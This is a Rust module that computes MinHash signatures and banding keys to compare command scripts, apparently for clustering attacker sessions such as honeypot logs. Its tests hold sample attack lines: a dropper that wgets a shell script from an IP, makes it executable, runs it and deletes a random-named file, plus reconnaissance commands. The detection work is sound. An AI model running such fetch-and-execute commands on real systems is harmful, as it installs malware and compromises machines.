//! How alike two scripts of commands are: tokens, shingles, MinHash, and bands for looking up without comparing all pairs.
//!
//! What changes between two runs of one tool (numbers, addresses, random names) is masked before the tokens are compared.

use crate::hash::{self, mix};
use serde::{Deserialize, Serialize};

/// Values in a signature. The error of an estimated similarity is about 1/sqrt of it.
pub const HASHES: usize = 64;
/// Rows in a band; two scripts of similarity s meet in at least one of the bands with probability 1 - (1 - s^4)^16.
const ROWS: usize = 4;
/// Tokens of one script that are looked at.
const MAX_TOKENS: usize = 20_000;

/// A script's MinHash signature and length.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Signature {
    /// Smallest hash of the shingles under each of [`HASHES`] functions.
    pub mins: Vec<u32>,
    /// Number of different shingles, capped.
    pub shingles: u32,
}

/// The tokens of one command line with what varies between runs masked.
pub fn tokens(line: &[u8]) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut word = Vec::new();
    let flush = |word: &mut Vec<u8>, out: &mut Vec<Vec<u8>>| {
        if !word.is_empty() {
            out.push(mask(word));
            word.clear();
        }
    };
    for &b in line {
        match b {
            b' ' | b'\t' | b'\r' | b'\n' => flush(&mut word, &mut out),
            b';' | b'|' | b'&' | b'>' | b'<' | b'(' | b')' | b'`' | b'"' | b'\'' | b'=' => {
                flush(&mut word, &mut out);
                if !matches!(b, b'"' | b'\'') {
                    out.push(vec![b]);
                }
            }
            _ if word.len() < 256 => word.push(b),
            _ => {}
        }
    }
    flush(&mut word, &mut out);
    out
}

/// Digits become `0`; a long path component of mixed letters and digits (a random name, a hash, a key) becomes `~`.
fn mask(word: &[u8]) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::with_capacity(word.len());
    for (i, part) in word.split(|b| *b == b'/').enumerate() {
        if i > 0 {
            out.push(b'/');
        }
        let digits = part.iter().filter(|b| b.is_ascii_digit()).count();
        let letters = part.iter().filter(|b| b.is_ascii_alphabetic()).count();
        if part.len() >= 12 && digits >= 3 && letters >= 3 {
            out.push(b'~');
            continue;
        }
        for &b in part {
            let b = if b.is_ascii_digit() { b'0' } else { b };
            if !(b == b'0' && out.last() == Some(&b'0')) {
                out.push(b);
            }
        }
    }
    out
}

impl Signature {
    /// The signature of the lines, in order; None if they hold fewer than `least` shingles (too little to tell anything).
    pub fn of<'a>(lines: impl IntoIterator<Item = &'a [u8]>, least: usize) -> Option<Signature> {
        let mut shingles = std::collections::BTreeSet::new();
        let mut window: [u64; 3] = [0; 3];
        let mut count = 0;
        for line in lines {
            for t in tokens(line).into_iter().chain(std::iter::once(b"\n".to_vec())) {
                count += 1;
                if count > MAX_TOKENS {
                    break;
                }
                window = [window[1], window[2], mix(hash::of(&t))];
                if count >= 3 {
                    shingles.insert(mix(window[0]
                        ^ window[1].rotate_left(21)
                        ^ window[2].rotate_left(42)));
                }
            }
        }
        if shingles.len() < least.max(1) {
            return None;
        }
        let mins = (0..HASHES as u64)
            .map(|i| {
                shingles
                    .iter()
                    .map(|s| (mix(s ^ mix(i + 1)) >> 32) as u32)
                    .min()
                    .unwrap_or(u32::MAX)
            })
            .collect();
        Some(Signature {
            mins,
            shingles: shingles.len() as u32,
        })
    }

    /// Estimated Jaccard similarity of the shingle sets, 0 to 1.
    pub fn similarity(&self, other: &Signature) -> f64 {
        let n = self.mins.len().min(other.mins.len());
        if n == 0 {
            return 0.0;
        }
        let same = self.mins.iter().zip(&other.mins).filter(|(a, b)| a == b).count();
        same as f64 / n as f64
    }

    /// Keys under which similar scripts are likely to be found together.
    pub fn bands(&self) -> Vec<u64> {
        self.mins
            .chunks(ROWS)
            .enumerate()
            .map(|(i, rows)| {
                rows.iter()
                    .fold(mix(i as u64 + 77), |a, r| mix(a ^ u64::from(*r)))
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sig(text: &str) -> Option<Signature> {
        Signature::of(text.lines().map(str::as_bytes), 6)
    }

    #[test]
    fn one_tool_with_other_names_is_alike_and_two_tools_are_not() {
        let a = sig("cd /tmp; wget http://192.0.2.7/x86.sh; chmod +x x86.sh; ./x86.sh\nuname -a\nrm -rf /tmp/a81kd93jd02kfj3k").unwrap();
        let b = sig("cd /tmp; wget http://198.51.100.23/x86.sh; chmod +x x86.sh; ./x86.sh\nuname -a\nrm -rf /tmp/b7dk2k49xk2jf81k").unwrap();
        let c = sig(
            "cat /proc/cpuinfo | grep name | wc -l\nfree -m | grep Mem\ncrontab -l\nw\nls -lh $(which ls)",
        )
        .unwrap();
        assert!(a.similarity(&b) > 0.8, "{}", a.similarity(&b));
        assert!(a.similarity(&c) < 0.2);
        assert!(a.bands().iter().any(|k| b.bands().contains(k)));
        assert!(sig("ls").is_none());
    }

    #[test]
    fn any_bytes_do() {
        for seed in 0..200u64 {
            let line: Vec<u8> = (0..seed * 3).map(|i| mix(seed * 1000 + i) as u8).collect();
            let _ = Signature::of([line.as_slice()], 1).map(|s| s.bands());
        }
    }
}
